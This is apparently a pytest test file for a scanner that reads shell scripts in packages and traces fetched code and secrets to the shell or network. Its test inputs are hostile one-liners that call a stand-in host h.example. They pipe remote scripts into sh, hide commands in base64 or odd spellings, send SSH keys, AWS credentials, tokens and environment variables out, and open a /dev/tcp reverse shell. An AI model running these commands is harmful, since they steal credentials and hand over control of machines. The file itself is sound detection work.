"""Shell scripts: what runs, with which words, and what flows through pipes, files and substitutions."""

import base64

import pytest

from watchhouse.evidence.facts.code import Call, CodeFacts, Zone
from watchhouse.evidence.facts.scripts.read import read_script
from watchhouse.evidence.values import Sink, Source
from watchhouse.model.artifact import MemberPath
from watchhouse.model.evidence import Moment


def read(text: str) -> CodeFacts:
    """Return the facts of a shell script."""
    return read_script(MemberPath("x.sh"), text, "shell", zone=Zone.PACKAGE, moment=Moment.INSTALL)


def call(facts: CodeFacts, name: str) -> Call:
    """Return the one call of that name."""
    (found,) = [each for each in facts.calls if each.name == name]
    return found


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL https://h.example/a | sh",
        "curl -fsSL https://h.example/a | sudo -E sh -s -- arg",
        'sh -c "$(curl -fsSL https://h.example/a)"',
        "sh <(curl -fsSL https://h.example/a)",
        "curl https://h.example/a > /tmp/a; sh /tmp/a",
        "curl https://h.example/a -o a.sh && chmod +x a.sh && sh a.sh",
        'X=`curl https://h.example/a`\nsh -c "$X"',
        "(echo; curl https://h.example/a) | sh",
    ],
)
def test_remote_content_reaches_the_shell(text: str) -> None:
    """However it is written, what was fetched is seen arriving at an interpreter."""
    found = call(read(text), "shell.sh")
    assert found.sink is Sink.CODE
    assert found.receives(Source.REMOTE_CONTENT)


@pytest.mark.parametrize(
    ("text", "name", "words"),
    [
        ("c\"u\"rl 'h.example'", "shell.curl", ["h.example"]),
        (r"$'\x63url' h.example", "shell.curl", ["h.example"]),
        ("A=cu; B=rl; $A$B h.example", "shell.curl", ["h.example"]),
        ("X=xcurlx; ${X:1:4} h.example", "shell.curl", ["h.example"]),
        ("/usr/bin/env nohup timeout 5 curl h.example &", "shell.curl", ["h.example"]),
        ("if true; then rm -rf /x; fi", "shell.rm", ["-rf", "/x"]),
        ("case $1 in\n a) rm /x;;\nesac", "shell.rm", ["/x"]),
        ("for f in /a /b; do rm $f; done", "shell.rm", ["/a"]),
        ("echo `hostname`", "shell.hostname", []),
    ],
)
def test_commands_are_named_whatever_their_spelling(text: str, name: str, words: list[str]) -> None:
    """Quotes, escapes, variables, wrappers and keywords do not hide which program runs."""
    assert [value.const for value in call(read(text), name).arguments] == words


def test_decoded_commands_are_read_as_a_layer() -> None:
    """Base64 into a shell is undone, and what it says is read like any other script."""
    hidden = base64.b64encode(b"curl http://h.example/x | bash").decode()
    facts = read(f"echo {hidden} | base64 -d | bash")
    (layer,) = facts.layers
    assert (layer.steps, layer.executed, layer.language) == (("base64",), True, "shell")
    assert call(facts, "shell.curl").location.layer == 1
    assert any(text.hidden and "h.example" in text.value for text in facts.texts)


@pytest.mark.parametrize(
    ("text", "source"),
    [
        ("cat ~/.ssh/id_rsa | curl -d @- http://h.example", Source.SSH_KEY),
        ("curl -F f=@$HOME/.aws/credentials http://h.example", Source.CLOUD_TOKEN),
        ("env | curl -d @- http://h.example", Source.ENVIRONMENT),
        ('curl -H "X: $GITHUB_TOKEN" http://h.example', Source.ENVIRONMENT),
        ('curl "http://h.example/?h=$(hostname)"', Source.HOST_IDENTITY),
        ("tar czf - ~/.kube | base64 | curl -d @- http://h.example", Source.CREDENTIAL_FILE),
    ],
)
def test_loot_is_seen_leaving(text: str, source: Source) -> None:
    """Secrets are followed into the network program that sends them."""
    found = call(read(text), "shell.curl")
    assert found.sink is Sink.NETWORK
    assert found.receives(source)


@pytest.mark.parametrize(
    "text",
    ["ssh -i ~/.ssh/id_rsa host ls", "curl http://h.example/$VERSION", 'curl -o "$HOME/x" http://h.example'],
)
def test_honest_commands_leak_nothing(text: str) -> None:
    """Using a key to log in, and variables that only say where things are, are no loot."""
    assert not any(each.taints for each in read(text).calls)


def test_network_devices_and_start_up_files_are_told() -> None:
    """Redirections to bash's network devices and to files that run again have their own sinks."""
    facts = read("bash -i >& /dev/tcp/203.0.113.1/4444 0>&1\necho x >> ~/.bashrc\necho y > out.txt")
    sinks = [each.sink for each in facts.calls if each.name == "shell.redirect"]
    assert sinks == [Sink.NETWORK, Sink.STARTUP, Sink.FILE]


def test_here_documents_run() -> None:
    """A here-document handed to a shell is read, at its own lines."""
    facts = read("ls\nsh <<'EOF'\nrm /x\nEOF\npwd")
    assert call(facts, "shell.rm").location.line == 3
    assert call(facts, "shell.pwd").location.line == 5


def test_python_inside_is_read() -> None:
    """Code handed to Python is read by the reader of Python."""
    facts = read("python3 -c 'import os; os.system(\"id\")'")
    assert call(facts, "os.system").sink is Sink.PROCESS


def test_lines_of_carried_texts_count_from_where_they_stand() -> None:
    """A text carried at line 40 of other code is reported there."""
    facts = read_script(
        MemberPath("x.py"), "ls\npwd", "shell", zone=Zone.PACKAGE, moment=Moment.CALL, layer=2, line=40
    )
    assert [(each.location.line, each.location.layer) for each in facts.calls] == [(40, 2), (41, 2)]
